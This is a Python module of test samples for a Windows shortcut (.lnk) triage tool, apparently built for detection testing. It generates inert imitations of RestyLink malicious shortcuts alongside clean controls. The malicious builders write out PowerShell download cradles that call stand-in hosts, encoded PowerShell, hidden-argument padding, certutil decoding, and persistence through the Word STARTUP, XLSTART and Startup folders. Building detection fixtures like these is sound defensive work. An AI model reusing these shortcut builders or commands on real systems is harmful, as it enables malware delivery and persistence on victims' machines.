"""Inert Windows shortcuts: the RestyLink first stage, its variants, hostile structures and controls.

Every command below names files that do not exist and addresses under the reserved `.invalid`
top-level domain or TEST-NET ranges (RFC 2606, RFC 5737): opened on Windows they would fail.
The appended-payload sample carries the inert RestyLink template (`office_samples`) and decoy PDF
(`pdf_samples`) exactly as the real shortcut carried its own.
"""

from __future__ import annotations

import base64
import uuid

from restytriage.samples import Sample
from restytriage.samples.lnk_writer import (
    DRIVE_FIXED,
    FILE_ATTRIBUTE_ARCHIVE,
    SW_SHOWMINNOACTIVE,
    Console,
    ShellLink,
    Tracker,
    build,
    id_list_item_offsets,
)
from restytriage.samples.office_samples import restylink_template
from restytriage.samples.pdf_samples import decoy_pdf

CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
EDGE_PDF_ICON = 11  # the PDF document icon inside msedge.exe's resources
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
PAYLOAD_HOST = "update.restylink.invalid"
STAGER_IP = "203.0.113.17"  # TEST-NET-3
# The machine the operator built the shortcuts on: its NetBIOS name and NIC (VMware OUI) link the wave.
OPERATOR = Tracker("desktop-7q3mvk1", "00:0c:29:5a:1b:2c", uuid.UUID("3f2a8e10-5b7c-4d1e-9a6f-8c0b1d2e3f40"))
KNOWN_FOLDER_SYSTEM = uuid.UUID("1AC14E77-02E7-4E5D-B744-2EB1AE5198B7")
KNOWN_FOLDER_DOCUMENTS = uuid.UUID("FDD39AD0-238F-46AF-ADB4-6C85480369C7")
CSIDL_SYSTEM, CSIDL_PERSONAL = 0x25, 0x05


def _cmd_link(arguments: str, **fields: object) -> ShellLink:
    """A shortcut to cmd.exe as droppers make it: environment block, minimised, operator's tracker."""
    defaults: dict[str, object] = {
        "target": CMD,
        "arguments": arguments,
        "environment_target": "%windir%\\system32\\cmd.exe",
        "show_command": SW_SHOWMINNOACTIVE,
        "target_size": 289_792,
        "tracker": OPERATOR,
        "with_link_info": False,
    }
    defaults.update(fields)
    return ShellLink(**defaults)  # type: ignore[arg-type]


RESTYLINK_COMMAND = (
    '/c copy /y "%CD%\\_\\~$seminar.dot" "%APPDATA%\\Microsoft\\Word\\STARTUP\\~$seminar.dot" '
    '& start "" "%CD%\\_\\seminar_programme.pdf"'
)


def restylink_shortcut() -> bytes:
    """Stage one: copy the template beside it into Word STARTUP, open the decoy PDF, look like a PDF."""
    return build(
        _cmd_link(
            RESTYLINK_COMMAND,
            icon_location=EDGE,
            icon_index=EDGE_PDF_ICON,
            icon_environment="%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe",
        )
    )


def _appended_command(lnk_name: str, dot: tuple[int, int], pdf: tuple[int, int]) -> str:
    # Fixed-width offsets: the command's length, hence the payload offsets, do not depend on them.
    script = (
        f"$l=(gci -Path $env:USERPROFILE -Filter '{lnk_name}' -Recurse -EA 0)[0].FullName;"
        "$b=[IO.File]::ReadAllBytes($l);"
        f"[IO.File]::WriteAllBytes(($env:APPDATA+'\\Microsoft\\Word\\STARTUP\\~$会議資料.dot'),$b[{dot[0]:07d}..{dot[1]:07d}]);"
        f"[IO.File]::WriteAllBytes(($env:TEMP+'\\請求書.pdf'),$b[{pdf[0]:07d}..{pdf[1]:07d}])"
    )
    return f'/c powershell -w hidden -nop -c "{script}" & start "" "%TEMP%\\請求書.pdf"'


def appended_payload_shortcut() -> bytes:
    """The template and the decoy ride inside the shortcut; PowerShell cuts them out of the .lnk."""
    template, decoy = restylink_template(), decoy_pdf()

    def link(command: str) -> ShellLink:
        return _cmd_link(
            command,
            icon_location=EDGE,
            icon_index=EDGE_PDF_ICON,
            description="請求書 2022年4月分",
            appended=template + decoy,
        )

    placeholder = _appended_command("請求書.pdf.lnk", (0, 0), (0, 0))
    lnk_size = len(build(link(placeholder))) - len(template) - len(decoy)
    dot = (lnk_size, lnk_size + len(template) - 1)
    pdf = (dot[1] + 1, dot[1] + len(decoy))
    return build(link(_appended_command("請求書.pdf.lnk", dot, pdf)))


def padded_arguments_shortcut() -> bytes:
    """Arguments start with 300 blanks and line breaks, so the Target field shows nothing; the working
    directory declares 1693 characters (Windows reads 260) to misalign spec-following parsers."""
    padding = "\r\n" + " " * 180 + "\t" * 20 + "\n" * 100
    command = (
        f'/c powershell -w hidden -c "iwr http://{STAGER_IP}/doc/view.ps1 -OutFile $env:TEMP\\view.ps1;'
        f' powershell -ep bypass -f $env:TEMP\\view.ps1"'
    )
    working_dir = "C:\\Windows\\System32".ljust(260)
    return build(
        _cmd_link(
            padding + command,
            working_dir=working_dir,
            string_counts={"working_dir": 1693},
            icon_location="C:\\Windows\\System32\\shell32.dll",
            icon_index=1,
        )
    )


ENCODED_SCRIPT = (
    f"$u='http://{PAYLOAD_HOST}/files/delivery.dat';$p=\"$env:TEMP\\delivery.dat\";"
    "(New-Object Net.WebClient).DownloadFile($u,$p);rundll32.exe $p,DllInstall"
)


def encoded_powershell_shortcut() -> bytes:
    """powershell -enc with a WebClient download and rundll32, under a Word icon."""
    encoded = base64.b64encode(ENCODED_SCRIPT.encode("utf-16-le")).decode("ascii")
    return build(
        ShellLink(
            target=POWERSHELL,
            arguments=f"-nop -w hidden -enc {encoded}",
            environment_target="%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            icon_location=WORD,
            icon_index=1,
            show_command=SW_SHOWMINNOACTIVE,
            tracker=OPERATOR,
        )
    )


def xlstart_shortcut() -> bytes:
    """certutil decodes an Excel add-in into XLSTART and a spreadsheet opens as the decoy."""
    return build(
        _cmd_link(
            '/c certutil -f -decode "%TEMP%\\budget.txt" "%APPDATA%\\Microsoft\\Excel\\XLSTART\\budget.xlam" '
            '& start "" "%TEMP%\\budget_2022.xlsx"',
            icon_location=r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        )
    )


def startup_folder_shortcut() -> bytes:
    """A script copied into the Windows Startup folder and started once now."""
    return build(
        _cmd_link(
            '/c copy /y "%TEMP%\\sync.vbs" "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\OneDriveSync.vbs" '
            '& wscript "%TEMP%\\sync.vbs"',
            icon_location="C:\\Windows\\System32\\shell32.dll",
            icon_index=3,
        )
    )


def truncated_shortcut() -> bytes:
    """The RestyLink shortcut cut inside its arguments: the count claims more than the file holds."""
    whole = restylink_shortcut()
    cut = whole.find("STARTUP".encode("utf-16-le")) + 120
    return whole[:cut]


def notepad_shortcut() -> bytes:
    """The Start-menu Notepad shortcut as Windows ships it (control)."""
    target = "C:\\Windows\\System32\\notepad.exe"
    offsets = id_list_item_offsets(target)
    return build(
        ShellLink(
            target=target,
            working_dir="%HOMEDRIVE%%HOMEPATH%",
            description="@%SystemRoot%\\system32\\shell32.dll,-22563",
            relative_path="..\\..\\..\\..\\..\\..\\..\\Windows\\System32\\notepad.exe",
            icon_location="%windir%\\system32\\notepad.exe",
            environment_target="%windir%\\system32\\notepad.exe",
            icon_environment="%windir%\\system32\\notepad.exe",
            target_size=201_216,
            volume_label="OS",
            known_folder=(KNOWN_FOLDER_SYSTEM, offsets[-1]),
            special_folder=(CSIDL_SYSTEM, offsets[-1]),
            tracker=Tracker("win10-build", "08:00:27:3d:91:6e"),
            console=Console(),
        )
    )


def document_shortcut(path: str, relative: str) -> bytes:
    """A Recent-items style shortcut to a Word document (control)."""
    offsets = id_list_item_offsets(path)
    return build(
        ShellLink(
            target=path,
            working_dir=path.rsplit("\\", 1)[0],
            relative_path=relative,
            target_size=48_213,
            target_attributes=FILE_ATTRIBUTE_ARCHIVE,
            volume_label="Windows",
            drive_type=DRIVE_FIXED,
            known_folder=(KNOWN_FOLDER_DOCUMENTS, offsets[-1]),
            special_folder=(CSIDL_PERSONAL, offsets[-1]),
            tracker=Tracker("laptop-emma", "3c:52:82:1a:7b:e4"),
        )
    )


_CLEAN_ABSENT = (
    "lnk.target_mismatch",
    "lnk.malformed",
    "lnk.icon_disguise",
    "lnk.hidden_window",
    "lnk.appended_data",
    "lnk.whitespace_padding",
    "lnk.decoy_document",
    "lnk.unknown_extra_block",
    "lnk.string_overflow",
)

SAMPLES: list[Sample] = [
    Sample(
        name="seminar_programme.pdf.lnk",
        build=restylink_shortcut,
        imitates="RestyLink stage 1: cmd /c copy of a Word template into %APPDATA%\\Microsoft\\Word\\STARTUP, "
        "start of the decoy PDF, Edge PDF icon, minimised window, operator tracker block",
        verdict="malicious",
        techniques=("T1137.001", "T1059.003", "T1036.008", "T1564.003"),
        findings=(
            "lnk.office_template_drop",
            "lnk.office_startup_write",
            "lnk.target_cmd",
            "lnk.decoy_document",
            "lnk.icon_disguise",
            "lnk.hidden_window",
        ),
        absent=("lnk.malformed", "lnk.appended_data", "lnk.target_mismatch"),
        facts=(
            ("command line", "Word\\STARTUP"),
            ("writes", "%APPDATA%\\Microsoft\\Word\\STARTUP\\~$seminar.dot"),
            ("opens", "seminar_programme.pdf"),
            ("MAC", "00:0c:29:5a:1b:2c"),
            ("machine", "desktop-7q3mvk1"),
        ),
    ),
    Sample(
        name="請求書.pdf.lnk",
        build=appended_payload_shortcut,
        imitates="RestyLink variant carrying its Word template and decoy PDF after the terminal block; "
        "PowerShell cuts them out of the shortcut by offset (Japanese names throughout)",
        verdict="malicious",
        techniques=("T1137.001", "T1027.009", "T1059.001", "T1059.003"),
        findings=(
            "lnk.appended_data",
            "lnk.reads_itself",
            "lnk.office_template_drop",
            "lnk.decoy_document",
            "lnk.hidden_window",
        ),
        absent=("lnk.malformed",),
        facts=(
            ("appended", "ole at"),
            ("writes", "Word\\STARTUP\\~$会議資料.dot"),
            ("opens", "請求書.pdf"),
        ),
    ),
    Sample(
        name="statement.lnk",
        build=padded_arguments_shortcut,
        imitates="shortcut whose arguments hide behind 300 blanks and line breaks (ZDI-CAN-25373 style) and whose "
        "working directory declares more characters than Windows reads; PowerShell downloads a script",
        verdict="malicious",
        techniques=("T1027", "T1105", "T1059.003"),
        findings=(
            "lnk.whitespace_padding",
            "lnk.long_arguments",
            "lnk.string_overflow",
            "lnk.download_cradle",
            "lnk.icon_disguise",
        ),
        absent=("lnk.malformed",),
        facts=(("command line", f"http://{STAGER_IP}/doc/view.ps1"),),
    ),
    Sample(
        name="delivery_note.lnk",
        build=encoded_powershell_shortcut,
        imitates="powershell -enc download cradle (WebClient.DownloadFile + rundll32) under a Word icon",
        verdict="malicious",
        techniques=("T1059.001", "T1027.010", "T1105"),
        findings=(
            "lnk.encoded_powershell",
            "lnk.download_cradle",
            "lnk.target_powershell",
            "lnk.icon_disguise",
            "lnk.hidden_window",
        ),
        absent=("lnk.malformed", "lnk.target_mismatch"),
        facts=(
            ("decoded PowerShell", f"http://{PAYLOAD_HOST}/files/delivery.dat"),
            ("writes", "delivery.dat"),
        ),
    ),
    Sample(
        name="budget_2022.lnk",
        build=xlstart_shortcut,
        imitates="variant for Excel: certutil -decode writes an add-in into XLSTART, a spreadsheet opens as decoy",
        verdict="malicious",
        techniques=("T1137.001", "T1137.006"),
        findings=(
            "lnk.office_template_drop",
            "lnk.office_addin_write",
            "lnk.decoy_document",
            "lnk.icon_disguise",
        ),
        absent=("lnk.malformed",),
        facts=(("writes", "XLSTART\\budget.xlam"),),
    ),
    Sample(
        name="photos_2022.lnk",
        build=startup_folder_shortcut,
        imitates="variant persisting through the Windows Startup folder (VBScript copied there and run)",
        verdict="malicious",
        techniques=("T1547.001", "T1059.003"),
        findings=("lnk.autostart_write", "lnk.target_cmd", "lnk.icon_disguise"),
        absent=("lnk.office_startup_write", "lnk.decoy_document"),
        facts=(("writes", "Start Menu\\Programs\\Startup\\OneDriveSync.vbs"),),
    ),
    Sample(
        name="seminar_truncated.lnk",
        build=truncated_shortcut,
        imitates="the RestyLink shortcut cut short inside its arguments (sizes point past the end): the readable "
        "part is still analysed",
        verdict="malicious",
        techniques=("T1137.001",),
        findings=("lnk.malformed", "lnk.office_startup_write", "lnk.target_cmd"),
        absent=("engine.analyzer_error", "lnk.appended_data"),
        facts=(("command line", "Word\\STARTUP"),),
    ),
    Sample(
        name="Notepad.lnk",
        build=notepad_shortcut,
        imitates="the Start-menu Notepad shortcut (environment block, known folder, console block; control)",
        verdict="clean",
        absent=(*_CLEAN_ABSENT, "lnk.target_user_writable", "lnk.target_indirect"),
        facts=(("target", "%windir%\\system32\\notepad.exe"), ("machine", "win10-build")),
    ),
    Sample(
        name="Quarterly report.lnk",
        build=lambda: document_shortcut(
            "C:\\Users\\emma\\Documents\\Quarterly report.docx", ".\\Quarterly report.docx"
        ),
        imitates="Recent-items shortcut to a Word document (control)",
        verdict="clean",
        absent=_CLEAN_ABSENT,
        facts=(("target", "Quarterly report.docx"),),
    ),
    Sample(
        name="議事録.lnk",
        build=lambda: document_shortcut("C:\\Users\\田中\\Documents\\議事録.docx", ".\\議事録.docx"),
        imitates="shortcut to a Word document with Japanese user and file names (Unicode LinkInfo; control)",
        verdict="clean",
        absent=_CLEAN_ABSENT,
        facts=(("target", "C:\\Users\\田中\\Documents\\議事録.docx"),),
    ),
]
